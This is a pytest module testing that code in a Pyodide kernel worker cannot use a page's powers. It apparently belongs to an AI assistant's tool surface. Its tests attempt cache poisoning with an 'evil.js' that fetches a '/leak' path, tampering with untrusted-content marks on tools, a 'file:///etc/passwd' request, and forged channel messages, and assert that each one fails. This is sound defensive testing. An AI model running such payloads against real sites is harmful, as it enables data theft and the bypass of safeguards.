"""A static host with one origin: code in the kernel has the page's origin, and neither its powers nor its secrets."""

from __future__ import annotations

import json
from collections.abc import Generator
from pathlib import Path
from typing import Any

import pytest

from gemini_testing import Surface
from gemini_testing.errors import PythonFailed
from gemini_testing.html_page import serving_html
from tests.attacks.listener import Listener, fenced_listener
from tests.attacks.page_port import is_asked
from tests.attacks.test_kernel import ATTEMPT, ORIGINS
from tests.tiers import sampled
from tests.web.conftest import Start
from tests.web.person import Person

pytestmark = pytest.mark.fortnightly

RUN = "from pyodide.code import run_js\nstr(await run_js({!r}))"


@pytest.fixture(scope="module")
def surface_options() -> dict[str, Any]:
    return {"isolated": False, "sites": False, "kernel": False}


@pytest.fixture(scope="module")
def outside() -> Generator[Listener]:
    with fenced_listener() as listener:
        yield listener


@pytest.fixture
def saved(surface: Surface) -> Surface:
    """The page, once the service worker has copies of its build."""
    assert surface.wait_for("document.documentElement.dataset.offline") == "saved"
    return surface


def in_worker(surface: Surface, script: str) -> str:
    """Run the body of an async function in the kernel's worker, and return its result or error as text."""
    try:
        return surface.python(RUN.format(f"(async () => {{ {script} }})()"))
    except PythonFailed as failure:
        return f"failed: {failure}"


# The page's powers, by its origin: a worker of the same origin must not.
POWERS: dict[str, str] = {
    "write a cookie": "await cookieStore.set('gemini-saved', 'forged'); await cookieStore.delete('gemini-saved')",
    "write the storage of grants": "localStorage.setItem('x', 'forged'); localStorage.removeItem('x')",
    "write the key of the page": "sessionStorage.setItem('x', 'forged'); sessionStorage.removeItem('x')",
    "register a service worker": "await navigator.serviceWorker.register(SCRIPT)",
    "find the service worker": "if (!await navigator.serviceWorker.getRegistration()) throw 0",
    "write to the service worker": "(await navigator.serviceWorker.ready).active.postMessage({ save: 'x' }, PORTS)",
    "start a shared worker": "new SharedWorker(SHARED).port.close()",
    "open a window": "open('', 'own')?.close()",
    "read the document": "document.body.innerHTML",
    "reach the page's API": "gemini.tools()",
    "list the page's windows": "if (!(await navigator.serviceWorker.ready).active.scriptURL) throw 0",
}


@pytest.mark.parametrize("name", sampled(POWERS))
def test_code_in_the_kernel_has_no_power_of_the_page(surface: Surface, name: str) -> None:
    urls = surface.javascript(
        "return [new URL('../service_worker.js', document.baseURI).href, document.baseURI]"
    )
    script = POWERS[name].replace("SCRIPT", repr(urls[0])).replace("SHARED", repr(f"{urls[1]}gemini-page.js"))
    script = script.replace("PORTS", "[new MessageChannel().port2]")
    assert surface.javascript(f"{script}; return 'done'") == "done", "the page can"
    assert in_worker(surface, f"{script}; return 'done'").startswith("failed")


@pytest.mark.parametrize("name", sampled([each for each in ORIGINS if each != "a service worker"]))
def test_code_in_the_kernel_reaches_no_other_origin(surface: Surface, outside: Listener, name: str) -> None:
    """The host sends no policy; the service worker's applies."""
    ran = surface.python(RUN.format(ATTEMPT.format(url=outside.url, code=ORIGINS[name])))
    assert ran != "reached"
    assert outside.received(surface) == []


def test_the_same_request_is_sent_with_consent(
    surface: Surface, outside: Listener, person: Person, start: Start
) -> None:
    call = start("python_run", code=f"import js\n(await js.fetch('{outside.url}/allowed')).status")
    assert f"{outside.url}/allowed" in person.sees("#approval-question")
    person.click("#approval-once")
    assert call.result()["result"] == 200
    assert "/allowed" in outside.received(surface)


POISON = """
const build = {build!r};
const name = (await caches.keys()).find((each) => build.startsWith(each + '/'));
const cache = await caches.open(name);
const headers = {{ "Content-Type": {type!r}, "Content-Security-Policy": "default-src * 'unsafe-eval' 'unsafe-inline'",
  "Cross-Origin-Embedder-Policy": "require-corp", "Service-Worker-Allowed": "/" }};
await cache.put(build + {name!r}, new Response({text}, {{ headers }}));
"""


def poison(surface: Surface, name: str, type: str, text: str) -> str:
    """Put a copy of our own into the service worker's, as code in the kernel can, and return its address."""
    build = surface.javascript("return document.baseURI")
    done = in_worker(surface, POISON.format(build=build, name=name, type=type, text=text) + "return 'done'")
    assert done == "done", done
    return f"{build}{name}"


@pytest.mark.parametrize("way", ["new Worker(url)", "new Worker(url, { type: 'module' })"])
def test_a_worker_from_a_changed_copy_has_the_kernel_s_policy(
    saved: Surface, outside: Listener, way: str
) -> None:
    sent = f"fetch('{outside.url}/leak', {{ mode: 'no-cors' }})"
    leak = f"{sent}.then(() => postMessage('reached'), () => postMessage('ran'))"
    url = poison(saved, "evil.js", "text/javascript", json.dumps(leak))
    ran = in_worker(
        saved,
        f"const url = {url!r}; const worker = {way}; return new Promise((resolve) => {{"
        "worker.onmessage = ({ data }) => resolve(data); worker.onerror = ({ message }) => resolve(message) })",
    )
    assert ran == "ran", "the copy runs, with no more than the kernel has"
    assert outside.received(saved) == []


def test_the_marks_of_tools_in_a_changed_copy_do_not_count(saved: Surface) -> None:
    """Without its mark, a tool that returns text from outside would leave lasting grants in force."""
    build = saved.javascript("return document.baseURI")
    genuine = saved.javascript("return await (await fetch('early.js', { cache: 'reload' })).text()")
    assert genuine.count('"untrustedContentHint":true') > 5
    changed = genuine.replace('"untrustedContentHint":true', '"untrustedContentHint":false')
    poison(saved, "early.js", "text/javascript", json.dumps(changed))
    assert saved.javascript("return await (await fetch('early.js')).text()") == changed, "the copy is served"
    try:
        saved.load(wait=False)
        assert saved.driver.execute_script("return document.baseURI") == build
        saved.wait_until_ready()
        assert any("list of tools could not be read" in line for line in saved.console())
    finally:
        poison(saved, "early.js", "text/javascript", json.dumps(genuine))
        saved.load()
    assert not any("list of tools could not be read" in line for line in saved.console())


DOOR = """
const answer = await fetch({door!r}, {options});
const problem = answer.headers.get("X-Network-Problem");
return problem === null ? `passed ${{answer.status}}` : JSON.parse(problem).type;
"""
VALID = {"url": "URL", "method": "GET", "headers": [], "redirect": "follow", "words": {}}
# Descriptions of requests, and the door's answers to them; "" is a valid one with another key.
DESCRIPTIONS: dict[str, dict[str, Any]] = {
    "no description": {},
    "a file": {**VALID, "url": "file:///etc/passwd"},
    "text in the address": {**VALID, "url": "data:text/plain,x"},
    "a script as address": {**VALID, "url": "javascript:1"},
    "a user name": {**VALID, "url": "http://a@127.0.0.1/"},
    "a fragment": {**VALID, "url": "URL#x"},
    "an endless address": {**VALID, "url": f"URL/{'x' * 9000}"},
    "CONNECT": {**VALID, "method": "CONNECT"},
    "two methods": {**VALID, "method": ["GET", "POST"]},
    "headers that are none": {**VALID, "headers": [["a"]]},
    "an answer": {**VALID, "words": None, "allowed": True},
    "another redirect": {**VALID, "redirect": "navigate"},
}


def door_of(surface: Surface) -> str:
    return surface.javascript(
        "return new URL('../network/worker/', document.baseURI).href + sessionStorage.getItem('gemini:companion:page')"
    )


def through_door(
    surface: Surface, door: str, description: dict[str, Any] | None, method: str = "POST"
) -> str:
    headers = {} if description is None else {"X-Network-Request": json.dumps(description)}
    return in_worker(
        surface, DOOR.format(door=door, options=json.dumps({"method": method, "headers": headers}))
    )


@pytest.mark.parametrize("name", sampled(DESCRIPTIONS))
def test_the_door_refuses_what_it_can_not_show(surface: Surface, outside: Listener, name: str) -> None:
    text = json.dumps(DESCRIPTIONS[name]).replace("URL", outside.url)
    assert through_door(surface, door_of(surface), json.loads(text)) in ("RequestMalformed", "AddressRefused")
    assert not is_asked(surface)
    assert outside.received(surface) == []


@pytest.mark.parametrize("key", ["", "/", "another-page", "%00"])
def test_the_door_asks_nobody_with_another_key(surface: Surface, outside: Listener, key: str) -> None:
    door = door_of(surface).rpartition("/")[0] + f"/{key}"
    found = through_door(surface, door, {**VALID, "url": outside.url})
    assert (
        found in ("RequestMalformed", "PageUnknown")
        or found.startswith("passed 4")
        or found.startswith("failed")
    )
    assert not is_asked(surface)
    assert outside.received(surface) == []


def test_a_page_of_another_origin_does_not_reach_the_door(surface: Surface, outside: Listener) -> None:
    door = door_of(surface)
    with serving_html(Path("none.js")) as server:
        server.files["/evil.html"] = "<!doctype html><title>Evil</title>"
        home = surface.driver.current_window_handle
        surface.driver.switch_to.new_window("tab")
        try:
            surface.driver.get(f"{server.url}/evil.html")
            options = json.dumps({"method": "POST", "headers": {"X-Network-Request": json.dumps(VALID)}})
            code = DOOR.format(door=door, options=options)
            found = surface.driver.execute_async_script(
                f"const done = arguments[arguments.length - 1]; (async () => {{ {code} }})()"
                ".then(done, (error) => done(`failed: ${error.name}`))"
            )
        finally:
            surface.driver.close()
            surface.driver.switch_to.window(home)
    assert found == "failed: TypeError"
    assert not is_asked(surface)


def test_forged_states_change_nothing_in_the_page_that_owns_the_surface(surface: Surface) -> None:
    tools = surface.javascript("return gemini.tools().length")
    answered = in_worker(
        surface,
        """const channel = new BroadcastChannel("gemini-surface-state");
        const answer = new Promise((resolve) => { channel.onmessage = ({ data }) => resolve(data.type); });
        for (const type of ["snapshot", "events"]) {
          channel.postMessage({ type, snapshot: { tools: [] }, batch: { events: [] } });
        }
        channel.postMessage({ type: "watch" });
        return answer;""",
    )
    assert answered == "snapshot", "the page has read the messages"
    assert surface.javascript("return gemini.tools().length") == tools > 0
